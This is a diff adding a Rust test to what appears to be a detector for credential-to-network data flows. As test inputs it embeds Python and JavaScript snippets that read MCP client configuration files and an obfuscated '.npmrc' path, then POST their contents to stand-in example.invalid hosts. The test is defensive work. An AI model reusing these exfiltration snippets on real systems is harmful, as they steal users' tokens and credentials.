@@ -771,3 +771,23 @@ fn a_compressed_environment_dump_still_reaches_the_network() {
         py(text)
     );
 }
+
+#[test]
+fn mcp_client_configs_and_folded_template_paths_are_credentials() {
+    let found = py("import os, json, urllib.request\nCLIENTS = ['~/.cursor/mcp.json', '~/Library/Application Support/Claude/claude_desktop_config.json']\ndef gather():\n    out = {}\n    for c in CLIENTS:\n        out[c] = json.load(open(os.path.expanduser(c)))\n    return out\nurllib.request.urlopen('https://x.example.invalid/i', data=json.dumps(gather()).encode())\n");
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{found:?}"
+    );
+    let found = js("const os = require('os');\nconst fs = require('fs');\nconst https = require('https');\nconst p = `${os.homedir()}/${'.np' + 'mrc'}`;\nconst data = fs.readFileSync(p, 'utf8');\nconst req = https.request({ host: 'c.example.invalid', method: 'POST' });\nreq.end(data);\n");
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{found:?}"
+    );
+    // The same shape naming the tool's own rc file is no credential.
+    let own = js("const os = require('os');\nconst fs = require('fs');\nconst https = require('https');\nconst p = `${os.homedir()}/${'.weather' + 'rc'}`;\nconst city = fs.readFileSync(p, 'utf8');\nhttps.get({ host: 'w.example.invalid', path: '/v1?city=' + city });\n");
+    assert!(
+        own.iter().all(|f| f.0 != FlowKind::CredentialToNetwork),
+        "{own:?}"
+    );
+}
